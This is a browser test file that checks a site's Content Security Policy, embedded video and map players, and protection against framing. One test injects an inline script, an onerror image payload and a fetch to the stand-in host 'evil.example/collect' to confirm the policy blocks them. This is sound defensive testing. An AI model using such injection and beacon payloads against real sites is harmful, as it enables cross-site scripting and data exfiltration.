import { chromium, type Browser } from 'playwright-core'
import { chromiumOptions } from '../scripts/lib/chromium-options'
import { describeEmbed } from '../src/article-html/embeds'
import { watchProblems, type Problem } from './support/problems'
import { addressOf } from './support/site-address'

jest.setTimeout(60_000)

/** Such as articles may embed. */
const players = [
  'https://www.youtube.com/embed/dQw4w9WgXcQ',
  'https://player.vimeo.com/video/123456789',
  'https://www.google.com/maps/embed?pb=1',
].map((address) => describeEmbed(address).player)

let browser: Browser

beforeAll(async () => {
  browser = await chromium.launch(chromiumOptions())
})
afterAll(() => browser.close())

/** Opens the home page, with all other hosts answered by an empty page; says what the policy stopped. */
async function visit() {
  const context = await browser.newContext()
  await context.route(
    (address) => !address.href.startsWith(addressOf('/')),
    (route) => route.fulfill({ contentType: 'text/html', body: '<title>elsewhere</title>' }),
  )
  const problems = watchProblems(context)
  const page = await context.newPage()
  await page.goto(addressOf('/en/'), { waitUntil: 'load' })
  const stopped = () => problems.filter(({ kind }: Problem) => kind === 'policy').map(({ text }) => text)
  return { page, stopped, close: () => context.close() }
}

test('What is not of the site is stopped, and every stop is noted for the browser tests', async () => {
  const { page, stopped, close } = await visit()
  expect(stopped()).toEqual([])
  const hasRun = await page.evaluate(async () => {
    const script = document.createElement('script')
    script.textContent = 'window.hasRun = true'
    document.body.append(script)
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="https://evil.example/p.png" onerror="window.hasRun = true">',
    )
    document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/frame"></iframe>')
    await fetch('https://evil.example/collect').catch(() => undefined)
    await new Promise((resolve) => setTimeout(resolve, 200))
    return 'hasRun' in window
  })
  expect(hasRun).toBe(false)
  const text = stopped().join('\n')
  for (const directive of ['script-src', 'img-src', 'frame-src', 'connect-src']) expect(text).toContain(directive)
  await close()
})

test('The players of videos and maps may be shown', async () => {
  const { page, stopped, close } = await visit()
  for (const player of players) {
    await page.evaluate((address) => {
      const frame = document.createElement('iframe')
      frame.src = address
      document.body.append(frame)
    }, player)
    await page.waitForFunction((count) => window.frames.length === count, players.indexOf(player) + 1)
  }
  await page.waitForLoadState('networkidle')
  expect(page.frames().map((frame) => frame.url())).toEqual(expect.arrayContaining(players))
  expect(stopped()).toEqual([])
  await close()
})

test('The page may not stand in a frame of another site', async () => {
  const { page, close } = await visit()
  await page.goto('http://localhost:1/')
  const refused = page.waitForEvent('framenavigated', (frame) => frame.url().startsWith('chrome-error:'))
  await page.setContent(`<iframe src="${addressOf('/en/')}"></iframe>`)
  await refused
  await close()
})
